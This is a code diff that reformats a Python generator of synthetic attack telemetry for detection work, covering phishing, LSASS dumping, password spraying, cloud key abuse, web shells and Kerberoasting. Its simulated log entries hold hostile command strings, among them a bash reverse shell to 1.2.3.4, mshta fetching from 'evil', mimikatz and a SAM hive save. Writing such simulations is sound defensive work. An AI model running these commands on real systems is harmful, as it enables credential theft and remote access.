@@ -33,37 +33,91 @@ def _own(w: World, user: str, at) -> None:
     """Make sure that the owner is seen on the own workstation before the attack."""
     w.logon(at - timedelta(minutes=w.rng.randint(30, 300)), user, w.ws[user], kind="2")
     for _ in range(3):
-        w.proc(at - timedelta(minutes=w.rng.randint(15, 200)), w.ws[user], user, "C:\\Program Files\\outlook.exe", "outlook.exe")
+        w.proc(
+            at - timedelta(minutes=w.rng.randint(15, 200)),
+            w.ws[user],
+            user,
+            "C:\\Program Files\\outlook.exe",
+            "outlook.exe",
+        )
 
 
 def _implant(w: World, at, user, host) -> None:
     """Let a user's own session on a host run an implant."""
     r = w.rng
-    ids, uid = w.proc(at, host, user, PS, "powershell -nop -w hidden -enc SQBFAFgA...", parent=r.choice(["C:\\Program Files\\winword.exe", "C:\\Windows\\explorer.exe"]))
+    ids, uid = w.proc(
+        at,
+        host,
+        user,
+        PS,
+        "powershell -nop -w hidden -enc SQBFAFgA...",
+        parent=r.choice(["C:\\Program Files\\winword.exe", "C:\\Windows\\explorer.exe"]),
+    )
     w.hit(ids, "Encoded PowerShell", r.choice(["high", "medium"]), ["T1059.001"], ["execution"], 0.9)
     if r.random() < 0.6:
         ids, _ = w.proc(at + 40 * S, host, user, SYS + "whoami.exe", "whoami /all", parent=PS, parent_uid=uid)
         w.hit(ids, "Whoami", r.choice(["low", "medium"]), ["T1033"], ["discovery"], 0.7)
     if r.random() < 0.5:
-        ids, _ = w.proc(at + 80 * S, host, user, SYS + "net.exe", "net group \"Domain Admins\" /domain", parent=PS, parent_uid=uid)
+        ids, _ = w.proc(
+            at + 80 * S, host, user, SYS + "net.exe", 'net group "Domain Admins" /domain', parent=PS, parent_uid=uid
+        )
         w.hit(ids, "Domain group discovery", "low", ["T1069.002"], ["discovery"], 0.7)
     if r.random() < 0.5:
-        eid = w.add(at + 20 * S, "sysmon", class_name="network_activity", log_product="windows", log_service="sysmon", log_category="network_connection", event_code="3",
-            device_name=host, actor_name=user, actor_domain=w.domain, process_path=PS, src_ip=w.ips[host], dst_ip=w.evil_ip(), dst_port=443, native={"Initiated": "true"})
-        w.hit(eid, "PowerShell to the Internet", r.choice(["medium", "low"]), ["T1071.001"], ["command-and-control"], 0.6)
+        eid = w.add(
+            at + 20 * S,
+            "sysmon",
+            class_name="network_activity",
+            log_product="windows",
+            log_service="sysmon",
+            log_category="network_connection",
+            event_code="3",
+            device_name=host,
+            actor_name=user,
+            actor_domain=w.domain,
+            process_path=PS,
+            src_ip=w.ips[host],
+            dst_ip=w.evil_ip(),
+            dst_port=443,
+            native={"Initiated": "true"},
+        )
+        w.hit(
+            eid, "PowerShell to the Internet", r.choice(["medium", "low"]), ["T1071.001"], ["command-and-control"], 0.6
+        )
 
 
 def _dump(w: World, at, user, host, system=False) -> None:
     r = w.rng
     kind = r.randint(0, 2)
     if kind == 0:
-        ids, _ = w.proc(at, host, user, SYS + "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", parent=PS)
-        w.hit(ids, "LSASS dump through comsvcs", r.choice(["high", "critical"]), ["T1003.001"], ["credential-access"], 0.95)
+        ids, _ = w.proc(
+            at, host, user, SYS + "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", parent=PS
+        )
+        w.hit(
+            ids,
+            "LSASS dump through comsvcs",
+            r.choice(["high", "critical"]),
+            ["T1003.001"],
+            ["credential-access"],
+            0.95,
+        )
     elif kind == 1:
         ids, uid = w.proc(at, host, user, "C:\\Users\\Public\\m.exe", "m.exe sekurlsa::logonpasswords", parent=CMD)
         w.hit(ids, "Mimikatz words", r.choice(["high", "critical"]), ["T1003.001"], ["credential-access"], 0.9)
-        eid = w.add(at + 2 * S, "sysmon", class_name="memory_activity", log_product="windows", log_service="sysmon", log_category="process_access", event_code="10",
-            device_name=host, process_path="C:\\Users\\Public\\m.exe", process_uid=uid, target_path=SYS + "lsass.exe", actor_name=user if r.random() < 0.5 else None, actor_domain=w.domain)
+        eid = w.add(
+            at + 2 * S,
+            "sysmon",
+            class_name="memory_activity",
+            log_product="windows",
+            log_service="sysmon",
+            log_category="process_access",
+            event_code="10",
+            device_name=host,
+            process_path="C:\\Users\\Public\\m.exe",
+            process_uid=uid,
+            target_path=SYS + "lsass.exe",
+            actor_name=user if r.random() < 0.5 else None,
+            actor_domain=w.domain,
+        )
         w.hit(eid, "LSASS opened", "high", ["T1003.001"], ["credential-access"], 0.8)
     else:
         ids, _ = w.proc(at, host, user, SYS + "reg.exe", "reg save HKLM\\SAM C:\\t\\sam", parent=CMD)
@@ -75,8 +129,23 @@ def _remote(w: World, at, user, src, dst, domain=None, ntlm=False, by=None) -> s
     r = w.rng
     how = r.choice(["service", "task", "winrm", "wmi", "rdp"])
     if by and by != user and r.random() < 0.6:
-        eid = w.add(at - S, "logons", class_name="authentication", activity="logon", outcome="success", log_product="windows", log_service="security", event_code="4648",
-            device_name=src, actor_name=by, actor_domain=w.domain, actor_session=w.session(src, by), user_name=user, user_domain=domain or w.domain, dst_name=dst)
+        eid = w.add(
+            at - S,
+            "logons",
+            class_name="authentication",
+            activity="logon",
+            outcome="success",
+            log_product="windows",
+            log_service="security",
+            event_code="4648",
+            device_name=src,
+            actor_name=by,
+            actor_domain=w.domain,
+            actor_session=w.session(src, by),
+            user_name=user,
+            user_domain=domain or w.domain,
+            dst_name=dst,
+        )
         if r.random() < 0.3:
             w.hit(eid, "Explicit credentials", "medium", ["T1078"], ["lateral-movement"], 0.5)
     eid = w.logon(at, user, dst, kind="10" if how == "rdp" else "3", src=src, domain=domain, ntlm=ntlm)
@@ -86,26 +155,106 @@ def _remote(w: World, at, user, src, dst, domain=None, ntlm=False, by=None) -> s
     t = at + 3 * S
     if how == "service":
         named = r.random() < 0.5
-        eid = w.add(t, "security", class_name="windows_service_activity", activity="create", log_product="windows", log_service="security" if named else "system",
-            event_code="4697" if named else "7045", device_name=dst, service_name="PSEXESVC", process_cmd="%SystemRoot%\\PSEXESVC.exe",
-            actor_name=user if named else None, actor_domain=(domain or w.domain) if named else None, actor_session=session if named else None)
-        w.hit(eid, "PsExec service", r.choice(["high", "medium"]), ["T1569.002"], ["lateral-movement", "execution"], 0.9)
-        ids, uid = w.proc(t + 2 * S, dst, "SYSTEM", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", parent=SYS + "services.exe", system=True)
-        ids, _ = w.proc(t + 4 * S, dst, "SYSTEM", CMD, "cmd /c whoami & net user", parent="C:\\Windows\\PSEXESVC.exe", parent_uid=uid, system=True)
+        eid = w.add(
+            t,
+            "security",
+            class_name="windows_service_activity",
+            activity="create",
+            log_product="windows",
+            log_service="security" if named else "system",
+            event_code="4697" if named else "7045",
+            device_name=dst,
+            service_name="PSEXESVC",
+            process_cmd="%SystemRoot%\\PSEXESVC.exe",
+            actor_name=user if named else None,
+            actor_domain=(domain or w.domain) if named else None,
+            actor_session=session if named else None,
+        )
+        w.hit(
+            eid, "PsExec service", r.choice(["high", "medium"]), ["T1569.002"], ["lateral-movement", "execution"], 0.9
+        )
+        ids, uid = w.proc(
+            t + 2 * S,
+            dst,
+            "SYSTEM",
+            "C:\\Windows\\PSEXESVC.exe",
+            "C:\\Windows\\PSEXESVC.exe",
+            parent=SYS + "services.exe",
+            system=True,
+        )
+        ids, _ = w.proc(
+            t + 4 * S,
+            dst,
+            "SYSTEM",
+            CMD,
+            "cmd /c whoami & net user",
+            parent="C:\\Windows\\PSEXESVC.exe",
+            parent_uid=uid,
+            system=True,
+        )
         w.hit(ids, "Shell from a remote service", "high", ["T1569.002"], ["execution"], 0.8)
     elif how == "task":
-        eid = w.add(t, "security", class_name="scheduled_job_activity", activity="create", log_product="windows", log_service="security", event_code="4698", device_name=dst,
-            service_name="\\Updater", process_cmd="C:\\t\\u.bat", actor_name=user, actor_domain=domain or w.domain, actor_session=session)
-        w.hit(eid, "Task created remotely", r.choice(["high", "medium"]), ["T1053.005"], ["persistence", "lateral-movement"], 0.9)
+        eid = w.add(
+            t,
+            "security",
+            class_name="scheduled_job_activity",
+            activity="create",
+            log_product="windows",
+            log_service="security",
+            event_code="4698",
+            device_name=dst,
+            service_name="\\Updater",
+            process_cmd="C:\\t\\u.bat",
+            actor_name=user,
+            actor_domain=domain or w.domain,
+            actor_session=session,
+        )
+        w.hit(
+            eid,
+            "Task created remotely",
+            r.choice(["high", "medium"]),
+            ["T1053.005"],
+            ["persistence", "lateral-movement"],
+            0.9,
+        )
         ids, _ = w.proc(t + 20 * S, dst, "SYSTEM", CMD, "cmd /c C:\\t\\u.bat", parent=SYS + "svchost.exe", system=True)
         w.hit(ids, "Shell from the task scheduler", "medium", ["T1053.005"], ["execution"], 0.6)
     elif how == "winrm":
-        ids, uid = w.proc(t, dst, user, SYS + "wsmprovhost.exe", "wsmprovhost.exe -Embedding", parent=SYS + "svchost.exe", domain=domain, session=session)
+        ids, uid = w.proc(
+            t,
+            dst,
+            user,
+            SYS + "wsmprovhost.exe",
+            "wsmprovhost.exe -Embedding",
+            parent=SYS + "svchost.exe",
+            domain=domain,
+            session=session,
+        )
         w.hit(ids, "Remote PowerShell session", "medium", ["T1021.006"], ["lateral-movement"], 0.8)
-        ids, _ = w.proc(t + 5 * S, dst, user, CMD, "cmd /c ipconfig /all", parent=SYS + "wsmprovhost.exe", parent_uid=uid, domain=domain, session=session)
+        ids, _ = w.proc(
+            t + 5 * S,
+            dst,
+            user,
+            CMD,
+            "cmd /c ipconfig /all",
+            parent=SYS + "wsmprovhost.exe",
+            parent_uid=uid,
+            domain=domain,
+            session=session,
+        )
         w.hit(ids, "Shell from remote PowerShell", "high", ["T1021.006"], ["lateral-movement", "execution"], 0.7)
     elif how == "wmi":
-        ids, _ = w.proc(t, dst, user if r.random() < 0.5 else "SYSTEM", CMD, "cmd /c powershell -enc aQBlAHgA", parent=SYS + "wbem\\WmiPrvSE.exe", domain=domain, session=session, system=False)
+        ids, _ = w.proc(
+            t,
+            dst,
+            user if r.random() < 0.5 else "SYSTEM",
+            CMD,
+            "cmd /c powershell -enc aQBlAHgA",
+            parent=SYS + "wbem\\WmiPrvSE.exe",
+            domain=domain,
+            session=session,
+            system=False,
+        )
         w.hit(ids, "Shell from WMI", "high", ["T1047"], ["execution", "lateral-movement"], 0.9)
     else:
         ids, _ = w.proc(t + 30 * S, dst, user, PS, "powershell -nop -enc SQBF", domain=domain, session=session)
@@ -157,7 +306,15 @@ def credential_theft(w: World, t: Truth) -> None:
     if local:
         w.logon(at - 20 * M, "localadm", host, kind="2", domain=host)
         w.proc(at - 15 * M, host, "localadm", SYS + "mmc.exe", "mmc", domain=host)
-        ids, _ = w.proc(at, host, "localadm", SYS + "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 1 x full", parent=PS, domain=host)
+        ids, _ = w.proc(
+            at,
+            host,
+            "localadm",
+            SYS + "rundll32.exe",
+            "rundll32 comsvcs.dll, MiniDump 1 x full",
+            parent=PS,
+            domain=host,
+        )
         w.hit(ids, "LSASS dump through comsvcs", "high", ["T1003.001"], ["credential-access"])
         t.roles["localadm"] = "compromised"
         return
@@ -184,8 +341,19 @@ def spray(w: World, t: Truth) -> None:
     for n in range(r.randint(1, 3)):
         for i, v in enumerate(victims):
             x = at + timedelta(seconds=n * 600 + i * r.randint(1, 20))
-            ids.append(w.logon(x, v, w.dc, src=src, ok=False, ntlm=True) if where == "windows" else w.signin(x, v, src, ok=False, product=product, agent="python-requests", mfa=False))
-    w.hit([i for i in ids if i][: r.choice([3, 5, 50])], "Password spraying", r.choice(["medium", "high"]), ["T1110.003"], ["credential-access"], 0.9)
+            ids.append(
+                w.logon(x, v, w.dc, src=src, ok=False, ntlm=True)
+                if where == "windows"
+                else w.signin(x, v, src, ok=False, product=product, agent="python-requests", mfa=False)
+            )
+    w.hit(
+        [i for i in ids if i][: r.choice([3, 5, 50])],
+        "Password spraying",
+        r.choice(["medium", "high"]),
+        ["T1110.003"],
+        ["credential-access"],
+        0.9,
+    )
     for v in victims:
         t.roles[v] = "targeted"
     if win:
@@ -198,11 +366,20 @@ def spray(w: World, t: Truth) -> None:
             if src in w.ips:
                 _remote(w, x + 3 * M, win, src, w.servers[1])
             else:
-                ids, _ = w.proc(x + 4 * M, w.servers[0], win, PS, "powershell -enc SQ", session=w.session(w.servers[0], win))
+                ids, _ = w.proc(
+                    x + 4 * M, w.servers[0], win, PS, "powershell -enc SQ", session=w.session(w.servers[0], win)
+                )
                 w.hit(ids, "Encoded PowerShell", "high", ["T1059.001"], ["execution"])
         else:
             eid = w.signin(x, win, src, product=product, agent="python-requests", mfa=False)
-            w.hit(eid, "Sign-in from an unusual place", r.choice(["high", "medium"]), ["T1078.004"], ["initial-access"], 0.8)
+            w.hit(
+                eid,
+                "Sign-in from an unusual place",
+                r.choice(["high", "medium"]),
+                ["T1078.004"],
+                ["initial-access"],
+                0.8,
+            )
             eid = w.idp(x + 3 * M, win, "New-InboxRule", ip=src, product=product, agent="python-requests")
             w.hit(eid, "Inbox rule", "high", ["T1564.008"], ["defense-evasion"], 0.8)
 
@@ -232,26 +409,84 @@ def cloud_key(w: World, t: Truth) -> None:
     at, _ = _begin(w, frozenset({owner}) if dormant else frozenset())
     if not dormant:
         for _ in range(4):
-            w.api(at - timedelta(minutes=r.randint(20, 900)), owner, r.choice(["PutObject", "GetObject", "DescribeInstances"]), ip=w.office_ip)
+            w.api(
+                at - timedelta(minutes=r.randint(20, 900)),
+                owner,
+                r.choice(["PutObject", "GetObject", "DescribeInstances"]),
+                ip=w.office_ip,
+            )
     ip, agent = w.evil_ip(), r.choice(["aws-cli/1.18 Python/3.8 Linux kali", "Boto3/1.9", "S3 Browser"])
     eid = w.api(at, owner, "GetCallerIdentity", "sts.amazonaws.com", ip=ip, agent=agent)
     w.hit(eid, "Caller identity asked", r.choice(["low", "medium"]), ["T1087.004"], ["discovery"], 0.7)
-    ids = [w.api(at + timedelta(seconds=20 + 5 * i), owner, op, "iam.amazonaws.com", ip=ip, agent=agent, ok=r.random() < 0.7) for i, op in enumerate(r.sample(["ListUsers", "ListRoles", "ListBuckets", "GetAccountAuthorizationDetails", "ListAttachedUserPolicies"], 3))]
+    ids = [
+        w.api(
+            at + timedelta(seconds=20 + 5 * i), owner, op, "iam.amazonaws.com", ip=ip, agent=agent, ok=r.random() < 0.7
+        )
+        for i, op in enumerate(
+            r.sample(
+                ["ListUsers", "ListRoles", "ListBuckets", "GetAccountAuthorizationDetails", "ListAttachedUserPolicies"],
+                3,
+            )
+        )
+    ]
     w.hit(ids, "Cloud enumeration", r.choice(["medium", "high"]), ["T1580"], ["discovery"], 0.8)
     act = owner
     t.roles[owner] = "attacker" if dormant else "compromised"
     if r.random() < 0.6:
         new = r.choice(["support-svc", "aws-backup2", "adm1n", "billing-ro"])
-        eid = w.api(at + 3 * M, owner, "CreateUser", "iam.amazonaws.com", ip=ip, agent=agent, klass="account_change", user=new, native={"requestParameters.userName": new})
+        eid = w.api(
+            at + 3 * M,
+            owner,
+            "CreateUser",
+            "iam.amazonaws.com",
+            ip=ip,
+            agent=agent,
+            klass="account_change",
+            user=new,
+            native={"requestParameters.userName": new},
+        )
         w.hit(eid, "IAM user created", r.choice(["medium", "low"]), ["T1136.003"], ["persistence"], 0.8)
-        eid = w.api(at + 4 * M, owner, "AttachUserPolicy", "iam.amazonaws.com", ip=ip, agent=agent, klass="account_change", user=new, native={"requestParameters.userName": new, "requestParameters.policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
+        eid = w.api(
+            at + 4 * M,
+            owner,
+            "AttachUserPolicy",
+            "iam.amazonaws.com",
+            ip=ip,
+            agent=agent,
+            klass="account_change",
+            user=new,
+            native={
+                "requestParameters.userName": new,
+                "requestParameters.policyArn": "arn:aws:iam::aws:policy/AdministratorAccess",
+            },
+        )
         w.hit(eid, "Admin policy attached", "high", ["T1098.003"], ["persistence"], 0.8)
-        w.api(at + 4 * M + 9 * S, owner, "CreateAccessKey", "iam.amazonaws.com", ip=ip, agent=agent, klass="account_change", user=new, native={"requestParameters.userName": new, "responseElements.accessKey.accessKeyId": w.key(new)})
+        w.api(
+            at + 4 * M + 9 * S,
+            owner,
+            "CreateAccessKey",
+            "iam.amazonaws.com",
+            ip=ip,
+            agent=agent,
+            klass="account_change",
+            user=new,
+            native={"requestParameters.userName": new, "responseElements.accessKey.accessKeyId": w.key(new)},
+        )
         t.roles[new] = "created"
         if r.random() < 0.6:
             act = new
-    ids = [w.api(at + 6 * M + i * S, act, "GetObject", ip=ip, agent=agent, resource=f"s3://finance/{i}.csv") for i in range(r.randint(2, 20))]
-    w.hit(ids, "Bucket read from a new place", r.choice(["high", "medium"]), ["T1530"], ["collection", "exfiltration"], 0.8)
+    ids = [
+        w.api(at + 6 * M + i * S, act, "GetObject", ip=ip, agent=agent, resource=f"s3://finance/{i}.csv")
+        for i in range(r.randint(2, 20))
+    ]
+    w.hit(
+        ids,
+        "Bucket read from a new place",
+        r.choice(["high", "medium"]),
+        ["T1530"],
+        ["collection", "exfiltration"],
+        0.8,
+    )
     if r.random() < 0.4:
         eid = w.api(at + 10 * M, act, "StopLogging", "cloudtrail.amazonaws.com", ip=ip, agent=agent)
         w.hit(eid, "Trail stopped", "high", ["T1562.008"], ["defense-evasion"])
@@ -265,12 +500,35 @@ def role_chain(w: World, t: Truth) -> None:
         inst = "i-0" + "".join(r.choice("0123456789abcdef") for _ in range(16))
         actor = f"assumed-role/ProxyRole/{inst}"
         used = r.random() < 0.5
-        w.add(at - 30 * M, class_name="authentication", activity="create", log_product="aws", log_service="cloudtrail", event_code="AssumeRole", api_operation="AssumeRole",
-              outcome="success", actor_name="ec2.amazonaws.com", actor_uid=None, cloud_account=w.cloud, src_ip=None, user_name=actor, user_domain=w.cloud,
-              native={"requestParameters.roleArn": f"arn:aws:iam::{w.cloud}:role/ProxyRole", "requestParameters.roleSessionName": inst})
+        w.add(
+            at - 30 * M,
+            class_name="authentication",
+            activity="create",
+            log_product="aws",
+            log_service="cloudtrail",
+            event_code="AssumeRole",
+            api_operation="AssumeRole",
+            outcome="success",
+            actor_name="ec2.amazonaws.com",
+            actor_uid=None,
+            cloud_account=w.cloud,
+            src_ip=None,
+            user_name=actor,
+            user_domain=w.cloud,
+            native={
+                "requestParameters.roleArn": f"arn:aws:iam::{w.cloud}:role/ProxyRole",
+                "requestParameters.roleSessionName": inst,
+            },
+        )
         if used:
             for _ in range(4):
-                w.api(at - timedelta(minutes=r.randint(20, 400)), actor, "GetParameter", ip=f"{w.net}.230", agent="Boto3/1.34")
+                w.api(
+                    at - timedelta(minutes=r.randint(20, 400)),
+                    actor,
+                    "GetParameter",
+                    ip=f"{w.net}.230",
+                    agent="Boto3/1.34",
+                )
         t.roles[actor] = "compromised" if used else "attacker"
     else:
         user = r.choice(w.users[2:6])
@@ -281,17 +539,42 @@ def role_chain(w: World, t: Truth) -> None:
         for role in r.sample(["OrgAdmin", "DeployRole", "AuditRole"], r.randint(1, 2)):
             session = r.choice(["sess1", "botocore-session-171", "admin"])
             nxt = f"assumed-role/{role}/{session}"
-            eid = w.api(at, actor, "AssumeRole", "sts.amazonaws.com", ip=ip, agent=agent, klass="authentication", user=nxt, native={
-                "requestParameters.roleArn": f"arn:aws:iam::{w.cloud}:role/{role}", "requestParameters.roleSessionName": session,
-                "responseElements.assumedRoleUser.arn": f"arn:aws:sts::{w.cloud}:{nxt}", "responseElements.credentials.accessKeyId": w.key(nxt)})
-            w.hit(eid, "Role assumed from a new place", r.choice(["medium", "low"]), ["T1078.004"], ["privilege-escalation"], 0.7)
+            eid = w.api(
+                at,
+                actor,
+                "AssumeRole",
+                "sts.amazonaws.com",
+                ip=ip,
+                agent=agent,
+                klass="authentication",
+                user=nxt,
+                native={
+                    "requestParameters.roleArn": f"arn:aws:iam::{w.cloud}:role/{role}",
+                    "requestParameters.roleSessionName": session,
+                    "responseElements.assumedRoleUser.arn": f"arn:aws:sts::{w.cloud}:{nxt}",
+                    "responseElements.credentials.accessKeyId": w.key(nxt),
+                },
+            )
+            w.hit(
+                eid,
+                "Role assumed from a new place",
+                r.choice(["medium", "low"]),
+                ["T1078.004"],
+                ["privilege-escalation"],
+                0.7,
+            )
             t.roles[nxt] = "attacker"
             actor, at = nxt, at + 2 * M
-    ids = [w.api(at + timedelta(seconds=5 * i), actor, op, ip=ip, agent=agent, resource="s3://vault") for i, op in enumerate(["ListBuckets", "ListObjects", "GetObject", "GetObject"])]
+    ids = [
+        w.api(at + timedelta(seconds=5 * i), actor, op, ip=ip, agent=agent, resource="s3://vault")
+        for i, op in enumerate(["ListBuckets", "ListObjects", "GetObject", "GetObject"])
+    ]
     w.hit(ids[-2:], "Bucket read from a new place", r.choice(["high", "medium"]), ["T1530"], ["collection"], 0.9)
     w.hit(ids[:1], "Buckets listed", "medium", ["T1619"], ["discovery"], 0.7)
     if r.random() < 0.5:
-        eid = w.api(at + 3 * M, actor, "GetSecretValue", "secretsmanager.amazonaws.com", ip=ip, agent=agent, resource="prod/db")
+        eid = w.api(
+            at + 3 * M, actor, "GetSecretValue", "secretsmanager.amazonaws.com", ip=ip, agent=agent, resource="prod/db"
+        )
         w.hit(eid, "Secret read from a new place", "high", ["T1555.006"], ["credential-access"], 0.9)
 
 
@@ -309,7 +592,14 @@ def ssh_force(w: World, t: Truth) -> None:
         w.lproc(at - timedelta(minutes=r.randint(20, 29)), host, real, "ls")
     ids = [w.ssh(at + timedelta(seconds=3 * i), r.choice(names), host, ip, ok=False) for i in range(r.randint(12, 60))]
     ids += [w.ssh(at + timedelta(seconds=200 + 3 * i), n, host, ip, ok=False) for i, n in enumerate(names)]
-    w.hit(ids[: r.choice([5, 100])], "SSH password guessing", r.choice(["medium", "high"]), ["T1110.001"], ["credential-access"], 0.95)
+    w.hit(
+        ids[: r.choice([5, 100])],
+        "SSH password guessing",
+        r.choice(["medium", "high"]),
+        ["T1110.001"],
+        ["credential-access"],
+        0.95,
+    )
     for n in names:
         t.roles[n] = "targeted"
     if not win:
@@ -327,7 +617,16 @@ def ssh_force(w: World, t: Truth) -> None:
         eid = w.lproc(at + 2 * M, host, win, f"useradd -m -s /bin/bash {new}", run_as="root")
         w.hit(eid, "useradd", "medium", ["T1136.001"], ["persistence"], 0.8)
         if r.random() < 0.5:
-            w.add(at + 2 * M + S, class_name="account_change", activity="create", log_product="linux", log_service="auth", device_name=host, user_name=new, actor_name=None)
+            w.add(
+                at + 2 * M + S,
+                class_name="account_change",
+                activity="create",
+                log_product="linux",
+                log_service="auth",
+                device_name=host,
+                user_name=new,
+                actor_name=None,
+            )
         t.roles[new] = "created"
         if w.rules.get("useradd", {}).get("on") is False and r.random() < 2:
             t.roles.pop(new)
@@ -342,9 +641,22 @@ def web_shell(w: World, t: Truth) -> None:
     at, _ = _begin(w, frozenset({second}) if dormant else frozenset())
     if r.random() < 0.55:
         host, service = r.choice(w.linux), r.choice(["www-data", "tomcat", "webapp", "apache"])
-        for i, (c, sev) in enumerate([("bash -c 'bash -i >& /dev/tcp/1.2.3.4/443 0>&1'", "high"), ("whoami", "medium"), ("cat /etc/passwd", "medium")]):
+        for i, (c, sev) in enumerate(
+            [
+                ("bash -c 'bash -i >& /dev/tcp/1.2.3.4/443 0>&1'", "high"),
+                ("whoami", "medium"),
+                ("cat /etc/passwd", "medium"),
+            ]
+        ):
             eid = w.lproc(at + i * 20 * S, host, service, c, attended=False, parent="/usr/sbin/apache2")
-            w.hit(eid, f"Web server ran {c.split()[0]}", sev, ["T1505.003"], ["persistence" if i == 0 else "discovery"], 0.9)
+            w.hit(
+                eid,
+                f"Web server ran {c.split()[0]}",
+                sev,
+                ["T1505.003"],
+                ["persistence" if i == 0 else "discovery"],
+                0.9,
+            )
         if r.random() < 0.4:
             user = r.choice(w.users[:3])
             w.ssh(at - timedelta(minutes=r.randint(40, 200)), user, r.choice(w.linux), w.ips[w.ws[user]])
@@ -357,9 +669,28 @@ def web_shell(w: World, t: Truth) -> None:
                 t.roles[user] = "compromised" if w.rules["Data staged"]["on"] else "compromised"
         return
     host = r.choice(w.servers)
-    ids, uid = w.proc(at, host, "DefaultAppPool", CMD, "cmd /c whoami", parent="C:\\Windows\\System32\\inetsrv\\w3wp.exe", domain="IIS APPPOOL", session="0x9a1")
+    ids, uid = w.proc(
+        at,
+        host,
+        "DefaultAppPool",
+        CMD,
+        "cmd /c whoami",
+        parent="C:\\Windows\\System32\\inetsrv\\w3wp.exe",
+        domain="IIS APPPOOL",
+        session="0x9a1",
+    )
     w.hit(ids, "Shell from the web server", "high", ["T1505.003"], ["persistence"], 0.95)
-    ids, _ = w.proc(at + 2 * M, host, "DefaultAppPool", PS, "powershell -enc SQ", parent=CMD, parent_uid=uid, domain="IIS APPPOOL", session="0x9a1")
+    ids, _ = w.proc(
+        at + 2 * M,
+        host,
+        "DefaultAppPool",
+        PS,
+        "powershell -enc SQ",
+        parent=CMD,
+        parent_uid=uid,
+        domain="IIS APPPOOL",
+        session="0x9a1",
+    )
     w.hit(ids, "Encoded PowerShell", "high", ["T1059.001"], ["execution"], 0.9)
     if r.random() < 0.6:
         if not dormant:
@@ -390,16 +721,37 @@ def federated(w: World, t: Truth) -> None:
         w.hit(eid, "Inbox rule", "high", ["T1564.008"], ["defense-evasion"])
     if r.random() < 0.4:
         new = "svc.sync" + str(r.randint(1, 9))
-        eid = w.idp(at + 9 * M, user, "Add user", target=new, ip=ip, product=product, activity="create", agent="axios/1.6")
+        eid = w.idp(
+            at + 9 * M, user, "Add user", target=new, ip=ip, product=product, activity="create", agent="axios/1.6"
+        )
         w.hit(eid, "User added", "medium", ["T1136.003"], ["persistence"], 0.8)
-        eid = w.idp(at + 10 * M, user, "Add member to role", target=new, ip=ip, product=product, activity="add", group="Global Administrator", agent="axios/1.6")
+        eid = w.idp(
+            at + 10 * M,
+            user,
+            "Add member to role",
+            target=new,
+            ip=ip,
+            product=product,
+            activity="add",
+            group="Global Administrator",
+            agent="axios/1.6",
+        )
         w.hit(eid, "Global administrator added", "high", ["T1098.003"], ["persistence"], 0.8)
         t.roles[new] = "created"
         if r.random() < 0.5:
             w.signin(at + 20 * M, new, ip, product=product, agent="axios/1.6", mfa=False)
     if r.random() < 0.35:
         other = r.choice([u for u in w.users if u != user])
-        eid = w.idp(at + 12 * M, user, "Reset user password", target=other, ip=ip, product=product, activity="reset_password", agent="axios/1.6")
+        eid = w.idp(
+            at + 12 * M,
+            user,
+            "Reset user password",
+            target=other,
+            ip=ip,
+            product=product,
+            activity="reset_password",
+            agent="axios/1.6",
+        )
         w.hit(eid, "Password reset", "medium", ["T1098"], ["persistence"], 0.7)
         t.roles[other] = "targeted"
         if r.random() < 0.4:
@@ -416,11 +768,26 @@ def phishing(w: World, t: Truth) -> None:
     user = r.choice(w.users)
     host = w.ws[user]
     _own(w, user, at)
-    ids, uid = w.proc(at, host, user, SYS + "mshta.exe", "mshta http://evil/x.hta", parent="C:\\Program Files\\outlook.exe")
+    ids, uid = w.proc(
+        at, host, user, SYS + "mshta.exe", "mshta http://evil/x.hta", parent="C:\\Program Files\\outlook.exe"
+    )
     w.hit(ids, "Mshta with a URL", "high", ["T1218.005"], ["defense-evasion"], 0.9)
     _implant(w, at + M, user, host)
-    eid = w.add(at + 2 * M, "sysmon", class_name="registry_activity", log_product="windows", log_service="sysmon", log_category="registry_set", event_code="13", device_name=host,
-        process_path=PS, process_uid=uid, registry_path="HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u", actor_name=user if r.random() < 0.5 else None, actor_domain=w.domain)
+    eid = w.add(
+        at + 2 * M,
+        "sysmon",
+        class_name="registry_activity",
+        log_product="windows",
+        log_service="sysmon",
+        log_category="registry_set",
+        event_code="13",
+        device_name=host,
+        process_path=PS,
+        process_uid=uid,
+        registry_path="HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
+        actor_name=user if r.random() < 0.5 else None,
+        actor_domain=w.domain,
+    )
     w.hit(eid, "Run key", "medium", ["T1547.001"], ["persistence"], 0.8)
     t.roles[user] = "compromised"
     if r.random() < 0.4:
@@ -429,8 +796,21 @@ def phishing(w: World, t: Truth) -> None:
         w.hit(ids, "net user add", "medium", ["T1136.001"], ["persistence"], 0.9)
         if w.rules["net user add"]["on"]:
             t.roles[new] = "created"
-        eid = w.add(at + 8 * M + S, "security", class_name="account_change", activity="create", log_product="windows", log_service="security", event_code="4720", device_name=host,
-            actor_name=user, actor_domain=w.domain, actor_session=w.session(host, user), user_name=new, user_domain=host)
+        eid = w.add(
+            at + 8 * M + S,
+            "security",
+            class_name="account_change",
+            activity="create",
+            log_product="windows",
+            log_service="security",
+            event_code="4720",
+            device_name=host,
+            actor_name=user,
+            actor_domain=w.domain,
+            actor_session=w.session(host, user),
+            user_name=new,
+            user_domain=host,
+        )
         if eid:
             t.roles[new] = "created"
 
@@ -449,8 +829,22 @@ def kerberoast(w: World, t: Truth) -> None:
     if victim not in names:
         names.append(victim)
     for i, s in enumerate(names):
-        eid = w.add(at + 5 * M + i * S, "logons", class_name="authentication", activity="ticket", outcome="success", log_product="windows", log_service="security", event_code="4769",
-            device_name=w.dc, user_name=f"{user}@{w.fqdn.upper()}", user_domain=w.fqdn.upper(), src_ip="::ffff:" + w.ips[host], service_name=s, native={"ServiceName": s, "TicketEncryptionType": "0x17"})
+        eid = w.add(
+            at + 5 * M + i * S,
+            "logons",
+            class_name="authentication",
+            activity="ticket",
+            outcome="success",
+            log_product="windows",
+            log_service="security",
+            event_code="4769",
+            device_name=w.dc,
+            user_name=f"{user}@{w.fqdn.upper()}",
+            user_domain=w.fqdn.upper(),
+            src_ip="::ffff:" + w.ips[host],
+            service_name=s,
